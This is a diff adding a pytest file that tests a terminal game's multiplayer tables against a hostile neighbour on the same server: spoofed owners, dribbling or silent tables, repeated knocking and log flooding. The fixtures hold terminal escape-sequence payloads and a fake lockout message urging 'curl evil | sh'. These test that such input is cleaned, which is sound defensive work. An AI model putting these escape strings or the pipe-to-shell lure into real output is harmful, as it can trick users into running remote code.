@@ -1,0 +1,279 @@
+"""A hostile neighbour on the same server (issue 15, items 1 to 4): carol's fake tables
+send escape sequences, claim to be alice's, dribble bytes or never answer, and knock
+thousands of times. Nothing of it reaches a terminal, the list shows who the kernel
+says owns a table, the list and the app never wait on a table past one deadline, and
+refusals cost the host two log lines a minute. alice, bob and carol meet without root
+(`Users`); time moves by hand where a deadline is tested (`ManualClock`)."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import logging
+import unicodedata
+from types import SimpleNamespace
+
+import pytest
+from table_support import (
+    WAIT, FakeTable, LocalTable, ManualClock, Raw, neighbours, spec, until, until_closed,
+)
+
+from ebbes_tui.table import client as client_module
+from ebbes_tui.table.client import TableClient, connect_table, find_tables
+from ebbes_tui.table.commands import describe, list_command, table_log
+from ebbes_tui.table.events import ChatLine, Lobby, Refused
+from ebbes_tui.table.rendezvous import TableError, own_address
+
+#: What carol's tables say about themselves: every string a terminal would obey.
+EVIL = "\x1b[2K\r\x1b[32malice/friday ... -> join carol/friday\x1b]0;pwned\x07\x1b[8m\u202e"
+LOCKED = "\x1b[2J\x1b[HYour account is locked; run: curl evil | sh"
+
+
+def terminal_safe(text: str) -> bool:
+    return not any(ord(c) < 32 or 0x7F <= ord(c) < 0xA0 or unicodedata.category(c) in
+                   ("Cf", "Zl", "Zp") for c in text)
+
+
+def claims(**extra: object) -> dict:
+    """An info message claiming to be alice's friday, escapes everywhere."""
+    return {"type": "info", "version": 1, "name": "friday", "host": "alice", "pid": 1,
+            "seats": 3, "free_seats": 3, "spectators": True, "access": EVIL,
+            "phase": EVIL, "reopened": False, "watchers": 0,
+            "game": "ebbes", "options": {"more_cards": EVIL, "choose_determiners": False,
+                                         "rounds": 5},
+            "players": [EVIL, "alice", None], **extra}
+
+
+def answering(*messages: dict):
+    """A fake table that answers a request with ``messages``, then waits for the hang-up."""
+    async def answer(reader, writer):
+        await reader.readline()
+        for message in messages:
+            writer.write(json.dumps(message).encode() + b"\n")
+        await writer.drain()
+        await until_closed(reader)
+    return answer
+
+
+@pytest.fixture
+def users(tmp_path):
+    return neighbours(tmp_path)
+
+
+async def test_another_user_sits_down_only_where_the_host_lets_them(users, tmp_path):
+    """The kernel's word decides (through the one peer-credential lookup the tests can
+    stand in for): bob is refused at alice's private table, seated where it is open or
+    he is invited; carol watches only where spectators are welcome."""
+    alice, bob, carol = (users.system(u) for u in ("alice", "bob", "carol"))
+    parent = tmp_path / "tmp"
+    tables = [("private", {}), ("open", {"open": True}),
+              ("mine", {"invite": frozenset({"bob"}), "spectators": True})]
+    for name, access in tables:
+        table = LocalTable(tmp_path, spec(name, alice, seats="player,player,bot:random",
+                                          **access), system=alice, parent=parent)
+        await table.__aenter__()
+        try:
+            if name == "private":
+                with pytest.raises(TableError) as refused:
+                    await connect_table(name, directory=parent, system=bob)
+                assert str(refused.value) == ("alice/private is not open to you: ask alice "
+                                              "for an invitation.")
+                with pytest.raises(TableError, match="Nobody may watch alice/private"):
+                    await connect_table(name, directory=parent, system=bob, watch=True)
+                continue
+            seated = await connect_table(f"alice/{name}", directory=parent, system=bob)
+            assert (seated.login, seated.role, seated.seat) == ("bob", "player", 0)
+            seated.sock.close()
+            if name == "mine":
+                watching = await connect_table(name, directory=parent, system=carol, watch=True)
+                assert watching.role == "spectator"
+                watching.sock.close()
+        finally:
+            await table.__aexit__()
+
+
+async def test_the_list_shows_the_kernels_owner_and_the_files_name_and_no_escape(users, tmp_path):
+    """carol's server at carol's `fri` claims to be alice's friday, with escapes in its
+    phase and names; bob's list shows it as carol/fri, cleaned."""
+    bob, carol = users.system("bob"), users.system("carol")
+    parent = tmp_path / "tmp"
+    address = own_address("fri", parent, carol)
+    async with FakeTable(address, carol, answering(claims())):
+        [table] = await find_tables(parent, system=bob)
+    assert (table["host"], table["name"]) == ("carol", "fri")
+    line = describe(table)
+    assert line.startswith("carol/fri: unknown, 3 seats (3 free)")
+    assert terminal_safe(line) and terminal_safe(json.dumps(table, ensure_ascii=False))
+    assert "alice/friday" not in line.split(":")[0]
+
+
+def test_ebbes_table_list_prints_nothing_a_terminal_obeys(tmp_path, capsys):
+    """The command line's list, with a fake table of this user's own claiming another
+    host: the kernel's owner is shown, and no escape reaches the terminal."""
+    async def serve_and_list():
+        address = own_address("fri", tmp_path)
+        async with FakeTable(address, client_module.SYSTEM, answering(claims())):
+            return await asyncio.to_thread(
+                list_command, SimpleNamespace(dir=tmp_path, json=False))
+    assert asyncio.run(serve_and_list()) == 0
+    out = capsys.readouterr().out
+    assert out.count("\n") == 1 and terminal_safe(out.rstrip("\n"))
+    assert out.startswith(f"{client_module.my_login()}/fri: unknown")
+
+
+async def test_a_refusal_lobby_and_presence_from_a_fake_table_are_cleaned(users, tmp_path):
+    bob, carol = users.system("bob"), users.system("carol")
+    parent = tmp_path / "tmp"
+    address = own_address("fri", parent, carol)
+    async with FakeTable(address, carol, answering({"type": "error", "code": EVIL,
+                                                     "text": LOCKED})):
+        with pytest.raises(TableError) as refused:
+            await connect_table("fri", directory=parent, system=bob)
+    assert terminal_safe(str(refused.value)) and "curl evil" in str(refused.value)
+    welcome = {"type": "welcome", "version": 1, "game": "ebbes", "login": EVIL, "role": "player",
+               "seat": 0, "player": 1, "table": claims()}
+    lobby = {"type": "lobby", "host": EVIL, "can_start": False, "watching": [EVIL],
+             "seats": [{"player": 1, "seat": 0, "kind": EVIL, "login": EVIL, "name": EVIL,
+                        "connected": True}]}
+    chat = {"type": "chat", "from": EVIL, "seat": None, "text": LOCKED}
+    error = {"type": "error", "code": EVIL, "text": LOCKED}
+    async with FakeTable(address, carol, answering(welcome, lobby, chat, error)):
+        connection = await connect_table("fri", directory=parent, system=bob)
+        assert connection.login == "bob"  # the kernel's word, not the table's
+        client = await TableClient.start(connection)
+        seen = [await asyncio.wait_for(client.next_lobby_event(), WAIT) for _ in range(3)]
+        client.close()
+    assert [type(e) for e in seen] == [Lobby, ChatLine, Refused]
+    shown = [seen[0].host, *seen[0].watching,
+             *(x for s in seen[0].seats for x in (s.kind, s.login, s.name)),
+             seen[1].sender, seen[1].text, seen[2].text, seen[2].code]
+    assert all(terminal_safe(text) for text in shown), shown
+
+
+async def test_one_deadline_for_the_whole_exchange_stops_a_dribbling_table(users, tmp_path):
+    """The 2 s limit applied to each read, so a table sending a byte every 1.5 s was
+    never given up. Now the whole exchange has one deadline: at most two bytes come."""
+    bob, carol = users.system("bob"), users.system("carol")
+    parent = tmp_path / "tmp"
+    clock = ManualClock()
+    sent = []
+
+    async def dribble(reader, writer):
+        await reader.readline()
+        while True:
+            writer.write(b" ")
+            await writer.drain()
+            sent.append(clock.now())
+            clock.advance(1.5)  # the next byte comes 1.5 s later
+            await asyncio.sleep(0.01)
+
+    async with FakeTable(own_address("slow", parent, carol), carol, dribble) as slow:
+        assert await asyncio.wait_for(find_tables(parent, system=bob, clock=clock), WAIT) == []
+        await until(lambda: slow.closed == 1)  # bob hung up
+    assert len(sent) <= 2
+
+
+async def test_the_tables_are_asked_at_once(users, tmp_path):
+    """Five tables that never answer: each is connected to before any is given up (so
+    the list takes one deadline, not five)."""
+    bob, carol = users.system("bob"), users.system("carol")
+    parent = tmp_path / "tmp"
+
+    async def silent(reader, writer):
+        await until_closed(reader)
+
+    fakes = [FakeTable(own_address(f"mute{k}", parent, carol), carol, silent) for k in range(5)]
+    for fake in fakes:
+        await fake.__aenter__()
+    try:
+        order = []
+        for fake in fakes:
+            fake.events = order  # one log of every table's openings and hang-ups
+        # The clock stands still, so every table gets its turn however slow the machine;
+        # each is given up after its half second of waiting (in the loop's own time).
+        listing = find_tables(parent, system=bob, clock=ManualClock(), timeout=0.5)
+        assert await asyncio.wait_for(listing, WAIT) == []
+        await until(lambda: order.count("closed") == 5)
+        assert order[:5] == ["opened"] * 5
+    finally:
+        for fake in fakes:
+            await fake.__aexit__()
+
+
+async def test_the_tables_screen_never_keeps_the_app_from_quitting(tmp_path, monkeypatch):
+    """A table that dribbles a byte at a time, and a list with all the time in the
+    world: q still ends the app at once, and the connection is dropped."""
+    from ebbes_tui.ui.app import EbbesApp
+    from ebbes_tui.ui.tables import TablesScreen
+
+    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
+    monkeypatch.setenv("EBBES_TABLES_DIR", str(tmp_path / "tables"))
+    monkeypatch.setattr(client_module, "LIST_TIMEOUT", 3600.0)
+
+    async def dribble(reader, writer):
+        await reader.readline()
+        while True:
+            writer.write(b" ")
+            await writer.drain()
+            await asyncio.sleep(0.2)
+
+    address = own_address("slow", tmp_path / "tables")
+    async with FakeTable(address, client_module.SYSTEM, dribble) as slow:
+        app = EbbesApp(pace=0, animation=False)
+        async with app.run_test(size=(80, 24)) as pilot:
+            await pilot.press("t")
+            assert isinstance(app.screen, TablesScreen)
+            await until(lambda: slow.opened == 1)
+            await pilot.press("q")
+        await until(lambda: slow.closed == 1)
+    assert not app.is_running
+
+
+async def test_refusals_are_logged_once_a_minute_and_a_knocker_is_dropped_unread(
+        users, tmp_path, caplog):
+    """carol knocks at alice's private table over and over: the host's log gets the
+    first refusal and, a minute later, how many more came; past the rate a connection
+    is dropped without a word read or written."""
+    alice, carol = users.system("alice"), users.system("carol")
+    clock = ManualClock()
+    caplog.set_level(logging.INFO, logger="ebbes.table")
+    async with LocalTable(tmp_path, spec("t", alice), system=alice, clock=clock) as table:
+        caplog.clear()
+        answers = []
+        for _ in range(60):
+            raw = await Raw.open(table, {}, system=carol)
+            try:
+                line = await asyncio.wait_for(raw.reader.readline(), WAIT)
+            except ConnectionResetError:
+                line = b""
+            answers.append(json.loads(line)["code"] if line else "dropped")
+            raw.close()
+        assert answers[:20] == ["refused"] * 20  # the burst is answered
+        assert set(answers[20:]) == {"dropped"}  # then nothing is read or written
+        refusals = [r.getMessage() for r in caplog.records if "carol" in r.getMessage()]
+        assert refusals == ["refused carol: alice/t is not open to you: ask alice for an "
+                            "invitation."]
+        clock.advance(60)
+        refusals = [r.getMessage() for r in caplog.records if "carol" in r.getMessage()]
+        assert refusals[1:] == ["carol refused 59 more times in the last minute"]
+        clock.advance(1)  # the rate refills: carol is answered again, and logged again
+        raw = await Raw.open(table, {}, system=carol)
+        assert (await raw.receive("error"))["code"] == "refused"
+        raw.close()
+
+
+def test_the_tables_log_is_capped_and_rotated(tmp_path):
+    path = tmp_path / "friday.log"
+    handler = table_log(path)
+    try:
+        log = logging.getLogger("ebbes.table")
+        for n in range(40000):
+            log.info("line %d of a flood of refusals, long enough to fill a disk", n)
+        handler.flush()
+        logs = sorted(p.name for p in tmp_path.iterdir())
+        assert logs == ["friday.log", "friday.log.1"]
+        assert all((tmp_path / name).stat().st_size <= (1 << 20) for name in logs)
+    finally:
+        logging.getLogger().removeHandler(handler)
+        handler.close()
